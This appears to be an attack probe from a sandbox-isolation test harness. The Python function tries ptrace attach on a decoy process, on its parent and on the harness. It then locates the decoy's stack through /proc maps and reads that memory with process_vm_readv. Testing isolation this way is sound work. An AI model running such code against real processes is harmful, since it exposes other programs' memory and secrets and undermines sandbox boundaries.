"""ptrace(PTRACE_ATTACH) the decoy and the parent; process_vm_readv the decoy's memory."""
import ctypes
import os


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    out = []
    for pid in (ctx["decoy_pid"], os.getppid(), ctx["harness_pid"]):
        r = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
        out.append(f"ptrace {pid}: {r} errno {ctypes.get_errno()}")
    buf = ctypes.create_string_buffer(4096)
    local = IOVec(ctypes.cast(buf, ctypes.c_void_p), 4096)
    try:
        maps = open(f"/proc/{ctx['decoy_pid']}/maps").read().splitlines()
        start = int([m for m in maps if "[stack]" in m][0].split("-")[0], 16)
    except Exception as exc:
        out.append(repr(exc))
        start = 0x7FFF00000000
    remote = IOVec(start, 4096)
    r = libc.process_vm_readv(ctx["decoy_pid"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    out.append(f"process_vm_readv {r} errno {ctypes.get_errno()}")
    out.append(buf.raw.decode("latin-1"))
    return out
